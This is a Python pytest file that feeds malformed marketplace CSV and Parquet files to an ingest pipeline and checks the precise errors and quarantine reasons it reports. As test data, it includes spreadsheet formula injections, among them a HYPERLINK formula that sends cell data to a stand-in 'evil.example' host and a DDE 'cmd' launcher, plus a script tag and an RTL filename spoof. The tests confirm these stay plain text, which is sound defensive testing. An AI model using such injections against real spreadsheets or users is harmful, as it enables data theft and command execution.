"""A corpus of malformed inputs: each yields one clear TableError or quarantined rows with reasons.

Every case builds its file(s) in tmp_path and pins the precise outcome. Row-level cases also
check the accounting identity rows_read == rows_accepted + rows_quarantined for every table.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
import re
import subprocess
import sys
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from fraudlens.errors import TableError
from fraudlens.marketplace.contract import MAX_TEXT_CHARS, QUARANTINE_REASONS, ROW_FLAGS, TABLES
from fraudlens.marketplace.ingest import QUARANTINE_COLUMNS, ingest
from tests.conftest import REPO_ROOT

KEY = b"test-key"
NOW = pd.Timestamp("2026-06-01T00:00:00")
FRAUDLENS = str(Path(sys.executable).with_name("fraudlens"))

REVIEW_COLUMNS = ["review_id", "account_id", "product_id", "text", "rating", "created_at"]
ORDER_COLUMNS = ["order_id", "account_id", "product_id", "seller_id", "amount", "currency", "created_at", "status"]
PRODUCT_COLUMNS = ["product_id", "seller_id", "category", "price"]
LABEL_COLUMNS = ["entity_type", "entity_id", "is_fraud"]
GOOD_REVIEW = {"review_id": "r1", "account_id": "a1", "product_id": "p1", "text": "fine",
               "rating": "5", "created_at": "2026-01-02T10:00:00Z"}
GOOD_ORDER = {"order_id": "o1", "account_id": "a1", "product_id": "p1", "seller_id": "s1", "amount": "25.0",
              "currency": "USD", "created_at": "2026-01-01T08:00:00Z", "status": "delivered"}


# ---------------------------------------------------------------------------- file builders

def csv_bytes(columns: list[str], rows: list[dict | list], line_end: str = "\n") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns] if isinstance(row, dict) else row)
    return out.getvalue().encode("utf-8")


def reviews(*overrides: dict, columns: list[str] = REVIEW_COLUMNS) -> bytes:
    """reviews.csv whose row i is GOOD_REVIEW with review_id r{i+1} and the given overrides."""
    rows = [{**GOOD_REVIEW, "review_id": f"r{i + 1}", **o} for i, o in enumerate(overrides)]
    return csv_bytes(columns, rows)


def orders(*overrides: dict) -> bytes:
    rows = [{**GOOD_ORDER, "order_id": f"o{i + 1}", **o} for i, o in enumerate(overrides)]
    return csv_bytes(ORDER_COLUMNS, rows)


def parquet_bytes(table: pa.Table | pd.DataFrame) -> bytes:
    sink = io.BytesIO()
    if isinstance(table, pd.DataFrame):
        table.to_parquet(sink, index=False)
    else:
        pq.write_table(table, sink)
    return sink.getvalue()


def good_reviews_frame(n: int = 2) -> pd.DataFrame:
    return pd.DataFrame({"review_id": [f"r{i + 1}" for i in range(n)], "account_id": ["a1"] * n,
                         "product_id": ["p1"] * n, "text": ["fine"] * n, "rating": [5] * n,
                         "created_at": pd.to_datetime(["2026-01-02"] * n)})


def reviews_parquet(**columns) -> bytes:
    """reviews.parquet of two good rows with some columns replaced by pyarrow arrays / lists."""
    frame = good_reviews_frame(2)
    table = pa.Table.from_pandas(frame, preserve_index=False)
    for name, values in columns.items():
        array = values if isinstance(values, pa.Array) else pa.array(values)
        table = table.set_column(table.schema.get_field_index(name), name, array)
    return parquet_bytes(table)


def write(directory: Path, files: dict[str, bytes]) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (directory / name).write_bytes(data)
    return directory


# ---------------------------------------------------------------------------- table level

def _truncated_parquet() -> bytes:
    data = parquet_bytes(good_reviews_frame(50))
    return data[: len(data) // 2]


def _corrupt_parquet() -> bytes:
    data = bytearray(parquet_bytes(good_reviews_frame(50)))
    data[8:-8] = random.Random(1).randbytes(len(data) - 16)
    return bytes(data)


TABLE_CASES = [
    # (id, files, file named in the message, fragments of the message)
    ("empty-file", {"reviews.csv": b""}, "reviews.csv", ["file is empty"]),
    ("only-blank-lines", {"reviews.csv": b"\n\n\r\n"}, "reviews.csv", ["file has no header row"]),
    ("only-a-bom", {"reviews.csv": "\ufeff".encode()}, "reviews.csv", ["file has no header row"]),
    ("semicolon-delimiter", {"reviews.csv": b"review_id;account_id;product_id;text;rating;created_at\n"
                             b"r1;a1;p1;fine, thanks;5;2026-01-02\n"},
     "reviews.csv", ["columns are not comma-separated", "semicolon-separated"]),
    ("tab-delimiter", {"reviews.csv": b"review_id\taccount_id\tproduct_id\ttext\trating\tcreated_at\n"
                       b"r1\ta1\tp1\tfine, thanks, really\t5\t2026-01-02\n"},
     "reviews.csv", ["columns are not comma-separated", "tab-separated"]),
    ("pipe-delimiter", {"reviews.csv": b"review_id|account_id|product_id|text|rating|created_at\n"
                        b"r1|a1|p1|fine|5|2026-01-02\n"},
     "reviews.csv", ["columns are not comma-separated", "pipe-separated"]),
    ("missing-required-column", {"reviews.csv": reviews(GOOD_REVIEW, columns=REVIEW_COLUMNS[:4] + ["created_at"])},
     "reviews.csv", ["required column(s) rating missing", "found: review_id, account_id"]),
    ("duplicate-column", {"reviews.csv": csv_bytes(REVIEW_COLUMNS + ["rating"], [["r1", "a1", "p1", "x", "5",
                                                                                 "2026-01-02", "4"]])},
     "reviews.csv", ["duplicate column(s) rating"]),
    ("parquet-named-csv", {"reviews.csv": parquet_bytes(good_reviews_frame())},
     "reviews.csv", ["this is a Parquet file with a .csv name", "rename it to reviews.parquet"]),
    ("csv-named-parquet", {"reviews.parquet": reviews(GOOD_REVIEW)},
     "reviews.parquet", ["not a Parquet file (no PAR1 header)", "rename it to reviews.csv"]),
    ("truncated-parquet", {"reviews.parquet": _truncated_parquet()}, "reviews.parquet",
     ["unreadable Parquet", "re-export the file"]),
    ("corrupt-parquet", {"reviews.parquet": _corrupt_parquet()}, "reviews.parquet", ["unreadable Parquet"]),
    ("binary-garbage", {"reviews.csv": random.Random(0).randbytes(4096)},
     "reviews.csv", ["this is binary data, not CSV text"]),
    ("binary-without-control-bytes", {"reviews.csv": bytes([0xC5, 0x80, 0xFE]) * 1000},
     "reviews.csv", ["the header row is not UTF-8 text"]),
    ("gzip-named-csv", {"reviews.csv": gzip.compress(reviews(GOOD_REVIEW))}, "reviews.csv",
     ["gzip-compressed"]),
    ("utf16-csv", {"reviews.csv": reviews(GOOD_REVIEW).decode().encode("utf-16")}, "reviews.csv",
     ["UTF-16 text, not UTF-8", "re-export reviews.csv as UTF-8"]),
    ("orders-file-holds-products", {"orders.csv": csv_bytes(PRODUCT_COLUMNS, [["p1", "s1", "home", "2.5"]])},
     "orders.csv", ["this holds the products table, not orders", "name it products.csv"]),
    ("both-csv-and-parquet",
     {"reviews.csv": reviews(GOOD_REVIEW), "reviews.parquet": parquet_bytes(good_reviews_frame())},
     "reviews.parquet", ["both reviews.parquet and reviews.csv exist", "keep exactly one file per table"]),
    ("every-row-has-an-extra-field", {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at\n"
                                      b"r1,a1,p1,fine,5,2026-01-02,oops\nr2,a1,p1,fine,5,2026-01-02,oops\n"},
     "reviews.csv", ["rows have more fields than the header's 6"]),
    ("one-row-has-an-extra-field", {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at\n"
                                    b"r1,a1,p1,fine,5,2026-01-02\nr2,a1,p1,fine, unquoted,5,2026-01-02\n"},
     "reviews.csv", ["malformed CSV", "line 3"]),
    ("unterminated-quote", {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at\n"
                            b"r1,a1,p1,\"never closed,5,2026-01-02\n"},
     "reviews.csv", ["malformed CSV", "EOF inside string"]),
    ("no-scored-table", {"products.csv": csv_bytes(PRODUCT_COLUMNS, [["p1", "s1", "home", "2"]]),
                         "Reviews.CSV": reviews(GOOD_REVIEW)},
     "", ["no reviews or orders table found", "Reviews.CSV"]),
    ("table-is-a-directory", {}, "reviews.csv", ["is not a regular file"]),
]


@pytest.mark.parametrize("files, named, fragments",
                         [pytest.param(f, n, m, id=i) for i, f, n, m in TABLE_CASES])
def test_unusable_table_is_one_clear_error(tmp_path, files, named, fragments):
    d = write(tmp_path / "in", files)
    if not files:
        (d / "reviews.csv").mkdir()
    with pytest.raises(TableError) as info:
        ingest(d, KEY, now=NOW)
    message = str(info.value)
    assert message.startswith(str(d / named) if named else str(d)), message
    assert "\n" not in message and "fix: " in message
    for fragment in fragments:
        assert fragment in message, message


def test_missing_input_directory_is_a_table_error(tmp_path):
    with pytest.raises(TableError, match="input directory does not exist - fix: pass --input"):
        ingest(tmp_path / "nope", KEY)


# ---------------------------------------------------------------------------- row level

@dataclass
class Case:
    """files -> expected accepted ids and quarantined {row: (column, reason)} per table."""
    files: dict[str, bytes]
    accepted: dict[str, list[str]]
    quarantined: dict[str, dict[int, tuple[str, str]]] = field(default_factory=dict)
    check: Callable[[object], None] | None = None


def _accepted(result, table: str) -> pd.DataFrame:
    return result.tables[table].set_index(TABLES[table].key or "entity_id")


def _check_text_is_nfc_and_unchanged(result):
    texts = _accepted(result, "reviews")["text"]
    for rid, original in TEXTS.items():
        assert texts[rid] == unicodedata.normalize("NFC", original), rid
    assert texts["cjk"] == "価格の割に良い。买了三个！" and texts["combining"] == "café naïve"
    assert len(texts["combining-raw"]) < len(TEXTS["combining-raw"])  # decomposed -> composed


TEXTS = {
    "cjk": "価格の割に良い。买了三个！",
    "emoji": "Love it 😍👍🏽 family: 👨‍👩‍👧",
    "arabic": "منتج رائع جدا",
    "hebrew": "מוצר מצוין",
    "mixed-rtl": "good \u202egnp.exe\u202c ok",
    "combining": "café naïve",
    "combining-raw": "cafe\u0301 nai\u0308ve",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at-sum": "@SUM(1)",
    "script": "<script>alert(1)</script>",
    "tab-lead": "\t=1+1",
}


def _check_injection_strings_are_data(result):
    texts = _accepted(result, "reviews")["text"]
    for rid in ("hyperlink", "plus-cmd", "minus", "at-sum", "script", "tab-lead"):
        assert texts[rid] == TEXTS[rid], rid


def _check_long_text(result):
    row = _accepted(result, "reviews").loc["long"]
    assert len(row["text"]) == MAX_TEXT_CHARS and row["text"] == ("ab" * 10_000)
    assert row["flags"] == "text_truncated"
    assert result.reports["reviews"].flagged_by_reason == {"text_truncated": 1}


def _check_line_endings(result):
    texts = _accepted(result, "reviews")["text"]
    assert texts["r3"] == "line one\nline two" and texts["r4"] == "crlf\r\ninside"


def _check_statuses(result):
    assert _accepted(result, "orders")["status"].to_dict() == {"o1": "refunded", "o2": "refunded"}


def _check_labels(result):
    labels = result.tables["labels"]
    assert labels[["entity_type", "entity_id"]].values.tolist() == [["review", "r1"], ["order", "o1"]]
    assert labels["is_fraud"].tolist() == [1, 0]


def _check_bom(result):
    assert list(result.tables["reviews"].columns[:2]) == ["review_id", "account_id"]
    assert result.reports["reviews"].ignored_columns == []


def _check_dangling(result):
    flags = _accepted(result, "reviews")["flags"].to_dict()
    assert flags == {"r1": "", "r2": "unknown_product", "r3": "unknown_account;unknown_product"}
    assert result.reports["reviews"].flagged_by_reason == {"unknown_account": 1, "unknown_product": 2}


def _check_parquet_types(result):
    frame = result.tables["reviews"]
    assert frame["review_id"].tolist() == ["1", "2"] and frame["account_id"].tolist() == ["7", "8"]
    assert frame["rating"].tolist() == [5, 4]
    assert frame["created_at"].tolist() == [pd.Timestamp("2026-01-01"), pd.Timestamp("2026-01-01T00:00:01")]


def _check_epoch_ms_message(result):
    assert "epoch seconds" in result.quarantine["message"][0]


def _check_invalid_utf8_stays_writable(result):
    q = result.quarantine
    assert q.set_index("row").loc[2, "entity_id"] == "r\ufffd2"
    pq.write_table(pa.Table.from_pandas(q), io.BytesIO())  # no surrogates left: Arrow can write it
    pq.write_table(pa.Table.from_pandas(result.tables["reviews"]), io.BytesIO())


def _check_float_amount(result):
    assert result.tables["orders"]["amount"].tolist() == [12.5, 0.0]


def _reviews_with_bad_bytes() -> bytes:
    return (b"review_id,account_id,product_id,text,rating,created_at\n"
            b"r1,a1,p1,caf\xe9 latin-1,5,2026-01-02\n"
            b"r\xff2,a1,p1,ok,5,2026-01-02\n"
            b"r3,a1,p1,\xed\xa0\x80 encoded surrogate,5,2026-01-02\n"
            b"r4,a1,p1,\xc3\xa9 valid,5,2026-01-02\n")


def _orders_with_bad_bytes() -> bytes:
    return (b"order_id,account_id,product_id,seller_id,amount,currency,created_at,status,email\n"
            b"o1,a1,p1,s1,1,US\xc4,2026-01-02,placed,a@b.c\n"
            b"o2,a1,p1,s1,1,USD,2026-01-02,placed,\xff@b.c\n"
            b"o3,a1,p1,s1,1,USD,2026-01-02,placed,a@b.c\n")


ROW_CASES = {
    "header-only": Case({"reviews.csv": csv_bytes(REVIEW_COLUMNS, [])}, {"reviews": []}),
    "header-only-parquet": Case({"reviews.parquet": parquet_bytes(good_reviews_frame(0))}, {"reviews": []}),
    "bad-types": Case(
        {"reviews.csv": reviews({}, {"rating": "five"}, {"created_at": "yesterday"}, {"rating": "3.5"},
                                {"rating": "5.0"}, {"created_at": "01/02/2026"}, {"created_at": "now"},
                                {"created_at": "2026"})},
        {"reviews": ["r1", "r5"]},
        {"reviews": {2: ("rating", "bad_type"), 3: ("created_at", "bad_type"), 4: ("rating", "bad_type"),
                     6: ("created_at", "bad_type"), 7: ("created_at", "bad_type"), 8: ("created_at", "bad_type")}}),
    "bad-amounts": Case(
        {"orders.csv": orders({"amount": "12,50"}, {"amount": "NaN"}, {"amount": "inf"}, {"amount": "-inf"},
                              {"amount": "1e400"}, {"amount": "twelve"}, {"amount": "-0.01"}, {"amount": "0"},
                              {"amount": " 12.5 "})},
        {"orders": ["o8", "o9"]},
        {"orders": {1: ("amount", "bad_type"), 2: ("amount", "bad_type"), 3: ("amount", "bad_type"),
                    4: ("amount", "bad_type"), 5: ("amount", "bad_type"), 6: ("amount", "bad_type"),
                    7: ("amount", "out_of_range")}}),
    "missing-required-values": Case(
        {"reviews.csv": reviews({"account_id": ""}, {"rating": ""}, {"created_at": ""}, {"text": ""},
                                {"product_id": "  "}, {"review_id": ""})},
        {"reviews": ["r4"]},
        {"reviews": {1: ("account_id", "missing_value"), 2: ("rating", "missing_value"),
                     3: ("created_at", "missing_value"), 5: ("product_id", "missing_value"),
                     6: ("review_id", "missing_value")}}),
    "short-row": Case(
        {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at\nr1,a1,p1,ok,5,2026-01-02\nr2,a1\n"},
        {"reviews": ["r1"]}, {"reviews": {2: ("product_id", "missing_value")}}),
    "whitespace-only-ids": Case(
        {"reviews.csv": reviews({"review_id": "   "}, {"review_id": "\t"}, {"review_id": "\u3000\u00a0"},
                                {"account_id": " "}, {})},
        {"reviews": ["r5"]},
        {"reviews": {1: ("review_id", "missing_value"), 2: ("review_id", "missing_value"),
                     3: ("review_id", "missing_value"), 4: ("account_id", "missing_value")}}),
    "duplicate-ids": Case(
        {"reviews.csv": reviews({"review_id": "r1"}, {"review_id": "r1"}, {"review_id": " r1 "},
                                {"review_id": "R1"}, {"review_id": "007"}, {"review_id": "7"})},
        {"reviews": ["r1", "R1", "007", "7"]},
        {"reviews": {2: ("review_id", "duplicate_id"), 3: ("review_id", "duplicate_id")}}),
    "duplicate-label-keys": Case(
        {"reviews.csv": reviews({}),
         "labels.csv": csv_bytes(LABEL_COLUMNS, [["review", "r1", "1"], ["Review", "r1", "0"], ["order", "r1", "1"]])},
        {"reviews": ["r1"], "labels": ["r1", "r1"]},
        {"labels": {2: ("entity_id", "duplicate_id")}}),
    "dangling-references": Case(
        {"reviews.csv": reviews({}, {"product_id": "p404"}, {"account_id": "a404", "product_id": "p405"}),
         "products.csv": csv_bytes(PRODUCT_COLUMNS, [["p1", "s1", "home", "2"]]),
         "accounts.csv": csv_bytes(["account_id", "created_at", "country"], [["a1", "2025-01-01", "DE"]])},
        {"reviews": ["r1", "r2", "r3"], "products": ["p1"], "accounts": ["a1"]}, check=_check_dangling),
    "out-of-range": Case(
        {"reviews.csv": reviews({"rating": "0"}, {"rating": "6"}, {"rating": "-1"}, {"rating": "1"},
                                {"rating": "99999999999999999999"}),
         "orders.csv": orders({"amount": "-5"}, {"amount": "1e300"}),
         "products.csv": csv_bytes(PRODUCT_COLUMNS, [["p1", "s1", "home", "-0.5"], ["p2", "s1", "home", "0"]])},
        {"reviews": ["r4"], "orders": ["o2"], "products": ["p2"]},
        {"reviews": {1: ("rating", "out_of_range"), 2: ("rating", "out_of_range"), 3: ("rating", "out_of_range"),
                     5: ("rating", "out_of_range")},
         "orders": {1: ("amount", "out_of_range")}, "products": {1: ("price", "out_of_range")}}),
    "optional-int-columns": Case(
        {"reviews.csv": reviews({"helpful_votes": "-1"}, {"helpful_votes": "1e30"}, {"helpful_votes": "2.5"},
                                {"helpful_votes": ""}, {"helpful_votes": "3"},
                                columns=REVIEW_COLUMNS + ["helpful_votes"])},
        {"reviews": ["r4", "r5"]},
        {"reviews": {1: ("helpful_votes", "out_of_range"), 2: ("helpful_votes", "out_of_range"),
                     3: ("helpful_votes", "bad_type")}}),
    "timestamps-out-of-bounds": Case(
        {"reviews.csv": reviews({"created_at": "2999-01-01"}, {"created_at": "9999-12-31T23:59:59Z"},
                                {"created_at": "2026-06-02T12:00:00"}, {"created_at": "2026-06-01T23:00:00"},
                                {"created_at": "1994-12-31T23:59:59Z"}, {"created_at": "0001-01-01"},
                                {"created_at": "1995-01-01"}, {"created_at": "2026-01-02T10:00:00.123456789Z"},
                                {"created_at": "2026-01-02T10:00:00+14:00"}, {"created_at": "2026-13-45"})},
        {"reviews": ["r4", "r7", "r8", "r9"]},
        {"reviews": {1: ("created_at", "future_timestamp"), 2: ("created_at", "future_timestamp"),
                     3: ("created_at", "future_timestamp"), 5: ("created_at", "implausible_timestamp"),
                     6: ("created_at", "implausible_timestamp"), 10: ("created_at", "bad_type")}}),
    "invalid-utf8-text-and-id": Case(
        {"reviews.csv": _reviews_with_bad_bytes()}, {"reviews": ["r4"]},
        {"reviews": {1: ("text", "invalid_utf8"), 2: ("review_id", "invalid_utf8"), 3: ("text", "invalid_utf8")}},
        check=_check_invalid_utf8_stays_writable),
    "invalid-utf8-category-and-pii": Case(
        {"orders.csv": _orders_with_bad_bytes()}, {"orders": ["o3"]},
        {"orders": {1: ("currency", "invalid_utf8"), 2: ("email", "invalid_utf8")}}),
    "invalid-utf8-in-ignored-header": Case(
        {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at,not\xffes\n"
                        b"r1,a1,p1,ok,5,2026-01-02,x\n"}, {"reviews": ["r1"]},
        check=lambda r: r.reports["reviews"].ignored_columns == ["not\ufffdes"] or pytest.fail("ignored")),
    "invalid-utf8-in-parquet-binary-column": Case(
        {"reviews.parquet": reviews_parquet(text=pa.array([b"fine", b"caf\xe9"], pa.binary()))},
        {"reviews": ["r1"]}, {"reviews": {2: ("text", "invalid_utf8")}}),
    "invalid-utf8-in-parquet-string-column": Case(
        {"reviews.parquet": reviews_parquet(text=pa.array([b"caf\xe9", b"fine"], pa.binary()).view(pa.string()))},
        {"reviews": ["r2"]}, {"reviews": {1: ("text", "invalid_utf8")}}),
    "one-megabyte-text": Case(
        {"reviews.csv": reviews({"review_id": "long", "text": "ab" * 500_000}, {})}, {"reviews": ["long", "r2"]},
        check=_check_long_text),
    "unicode-and-injection-text": Case(
        {"reviews.csv": reviews(*({"review_id": rid, "text": t} for rid, t in TEXTS.items()))},
        {"reviews": list(TEXTS)}, check=lambda r: (_check_text_is_nfc_and_unchanged(r),
                                                    _check_injection_strings_are_data(r))),
    "control-characters-in-text": Case(
        {"reviews.csv": reviews({"text": "nul\x00bell\x07del\x7f"})}, {"reviews": ["r1"]},
        check=lambda r: r.tables["reviews"]["text"][0] == "nul bell del " or pytest.fail("controls")),
    "mixed-line-endings": Case(
        {"reviews.csv": b"review_id,account_id,product_id,text,rating,created_at\r\n"
                        b"r1,a1,p1,crlf row,5,2026-01-02\r\n"
                        b"r2,a1,p1,lf row,5,2026-01-02\n"
                        b"r3,a1,p1,\"line one\nline two\",5,2026-01-02\r\n"
                        b"r4,a1,p1,\"crlf\r\ninside\",4,2026-01-02\n"
                        b"r5,a1,p1,no newline at end,3,2026-01-02"},
        {"reviews": ["r1", "r2", "r3", "r4", "r5"]}, check=_check_line_endings),
    "bom-before-header": Case(
        {"reviews.csv": "\ufeff".encode() + reviews({}, {})}, {"reviews": ["r1", "r2"]}, check=_check_bom),
    "parquet-wrong-dtypes": Case(
        {"reviews.parquet": reviews_parquet(review_id=[1, 2], account_id=pa.array([7.0, 8.0]), rating=["5", "4"],
                                            created_at=pa.array([1767225600, 1767225601], pa.int64()))},
        {"reviews": ["1", "2"]}, check=_check_parquet_types),
    "parquet-timestamps-as-strings": Case(
        {"reviews.parquet": reviews_parquet(created_at=["2026-01-01T10:00:00Z", "yesterday"])},
        {"reviews": ["r1"]}, {"reviews": {2: ("created_at", "bad_type")}}),
    "parquet-epoch-milliseconds": Case(
        {"reviews.parquet": reviews_parquet(created_at=pa.array([1767225600000, 1767225600], pa.int64()))},
        {"reviews": ["r2"]}, {"reviews": {1: ("created_at", "future_timestamp")}}, check=_check_epoch_ms_message),
    "parquet-epoch-before-1995": Case(
        {"reviews.parquet": reviews_parquet(created_at=pa.array([0.0, -1e30], pa.float64()))},
        {"reviews": []}, {"reviews": {1: ("created_at", "implausible_timestamp"),
                                      2: ("created_at", "implausible_timestamp")}}),
    "parquet-bad-ratings": Case(
        {"reviews.parquet": reviews_parquet(rating=["five", None])}, {"reviews": []},
        {"reviews": {1: ("rating", "bad_type"), 2: ("rating", "missing_value")}}),
    "parquet-float-ids-with-null": Case(
        {"reviews.parquet": reviews_parquet(review_id=pa.array([3.0, None], pa.float64()))},
        {"reviews": ["3"]}, {"reviews": {2: ("review_id", "missing_value")}}),
    "parquet-amounts": Case(
        {"orders.parquet": parquet_bytes(pd.DataFrame({**{c: [v, v, v, v] for c, v in GOOD_ORDER.items()},
                                                       "order_id": ["o1", "o2", "o3", "o4"],
                                                       "amount": [12.5, np.nan, np.inf, 0.0]}))},
        {"orders": ["o1", "o4"]}, {"orders": {2: ("amount", "missing_value"), 3: ("amount", "bad_type")}}),
    "parquet-amounts-as-strings": Case(
        {"orders.parquet": parquet_bytes(pd.DataFrame({**{c: [v, v, v] for c, v in GOOD_ORDER.items()},
                                                       "order_id": ["o1", "o2", "o3"],
                                                       "amount": ["12.5", "12,50", "0"]}))},
        {"orders": ["o1", "o3"]}, {"orders": {2: ("amount", "bad_type")}}, check=_check_float_amount),
    "parquet-named-index": Case(
        {"reviews.parquet": parquet_bytes(pa.Table.from_pandas(good_reviews_frame().set_index("review_id")))},
        {"reviews": ["r1", "r2"]}),
    "labels-values": Case(
        {"reviews.csv": reviews({}),
         "labels.csv": csv_bytes(LABEL_COLUMNS, [["Review", "r1", "TRUE"], ["user", "u1", "1"],
                                                 ["review", "r2", "maybe"], ["order", "o1", "no"],
                                                 ["account", "", "1"]])},
        {"reviews": ["r1"], "labels": ["r1", "o1"]},
        {"labels": {2: ("entity_type", "not_allowed"), 3: ("is_fraud", "bad_type"),
                    5: ("entity_id", "missing_value")}}, check=_check_labels),
    "order-status": Case(
        {"orders.csv": orders({"status": "Refunded"}, {"status": " REFUNDED "}, {"status": "lost"},
                              {"status": ""})},
        {"orders": ["o1", "o2"]},
        {"orders": {3: ("status", "not_allowed"), 4: ("status", "missing_value")}}, check=_check_statuses),
    "row-reports-first-problem-only": Case(
        {"reviews.csv": reviews({"account_id": "", "rating": "nine", "created_at": "never"})}, {"reviews": []},
        {"reviews": {1: ("account_id", "missing_value")}}),
}


@pytest.mark.parametrize("case", [pytest.param(c, id=i) for i, c in ROW_CASES.items()])
def test_row_level_problems_are_quarantined_with_reasons(tmp_path, case):
    d = write(tmp_path / "in", case.files)
    result = ingest(d, KEY, now=NOW)
    q = result.quarantine
    assert list(q.columns) == QUARANTINE_COLUMNS
    assert set(result.reports) == set(case.accepted)
    for table, report in result.reports.items():
        assert report.rows_read == report.rows_accepted + report.rows_quarantined, table
        assert report.rows_accepted == len(result.tables[table])
        mine = q[q["table"] == table]
        assert len(mine) == report.rows_quarantined
        assert set(mine["file"]) <= {str(d / f"{table}.csv"), str(d / f"{table}.parquet")}
        got = {int(r.row): (r.column, r.reason) for r in mine.itertuples()}
        assert got == case.quarantined.get(table, {}), table
        key = TABLES[table].key or "entity_id"
        assert result.tables[table][key].tolist() == case.accepted[table], table
        assert set(mine["reason"]) <= set(QUARANTINE_REASONS)
        assert mine["message"].map(lambda m: isinstance(m, str) and m != "").all()
    if case.check:
        case.check(result)


def test_quarantine_entity_ids_and_row_numbers_point_at_the_row(tmp_path):
    d = write(tmp_path / "in", {"reviews.csv": reviews({}, {"rating": "7"}, {}, {"rating": "x"})})
    q = ingest(d, KEY, now=NOW).quarantine
    assert q[["row", "entity_id", "table"]].values.tolist() == [[2, "r2", "reviews"], [4, "r4", "reviews"]]
    assert q["message"].tolist() == ["rating must be <= 5", "value is not an integer"]


def test_wide_file_of_only_bad_rows_has_nothing_accepted_and_nothing_lost(tmp_path):
    rows = [{"rating": str(v)} for v in ("0", "6", "x", "", "3.5", "inf")] * 500
    d = write(tmp_path / "in", {"reviews.csv": reviews(*rows)})
    report = ingest(d, KEY, now=NOW).reports["reviews"]
    assert (report.rows_read, report.rows_accepted, report.rows_quarantined) == (3000, 0, 3000)
    assert report.quarantined_by_reason == {"bad_type": 1500, "missing_value": 500, "out_of_range": 1000}


def test_documented_reason_codes_and_flags_match_the_contract():
    doc = (REPO_ROOT / "docs" / "data-contract.md").read_text()
    row_level = doc.split("**Row level**")[1].split("**Flags**")[0]
    assert tuple(re.findall(r"^\| `(\w+)` \|", row_level, re.M)) == QUARANTINE_REASONS
    flags = doc.split("**Flags**")[1].split("\n## ")[0]
    assert all(f"`{flag}`" in flags for flag in ROW_FLAGS)


# ---------------------------------------------------------------------------- the CLI

def _validate(directory: Path) -> subprocess.CompletedProcess:
    # Wide enough that rich does not wrap the quarantine lines (error lines never wrap).
    env = {**os.environ, "FRAUDLENS_PII_KEY": "", "COLUMNS": "1000"}
    return subprocess.run([FRAUDLENS, "validate", "--input", str(directory)], capture_output=True,
                          text=True, env=env, timeout=300)


@pytest.mark.parametrize("files, named", [
    ({"reviews.csv": b"review_id;account_id;product_id;text;rating;created_at\nr1;a1;p1;x;5;2026-01-02\n"},
     "reviews.csv"),
    ({"reviews.csv": random.Random(3).randbytes(2048)}, "reviews.csv"),
    ({"reviews.csv": reviews({}), "orders.parquet": b"PAR1 but not really"}, "orders.parquet"),
])
def test_cli_validate_table_problem_is_one_line_exit_2(tmp_path, files, named):
    d = write(tmp_path / "in", files)
    result = _validate(d)
    assert result.returncode == 2, result.stderr
    output = (result.stdout + result.stderr).strip()
    assert "Traceback" not in output and len(output.splitlines()) == 1, output
    assert output.startswith("error: ") and str(d / named) in output and "fix:" in output


def test_cli_validate_row_problems_prints_quarantine_lines_exit_1(tmp_path):
    d = write(tmp_path / "in", {"reviews.csv": _reviews_with_bad_bytes() + b"r5,a1,p1,x,6,2026-01-02\n"})
    result = _validate(d)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stderr.splitlines()
    assert any("read" in ln and "accepted" in ln and "quarantined" in ln for ln in lines)
    path = str(d / "reviews.csv")
    for row, column, reason in [(1, "text", "invalid_utf8"), (2, "review_id", "invalid_utf8"),
                                (5, "rating", "out_of_range")]:
        assert any(ln.strip().startswith(f"{path} row {row} column {column}: {reason} - ") for ln in lines), lines


def test_cli_validate_clean_input_exits_0(tmp_path, small_input):
    result = _validate(small_input)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
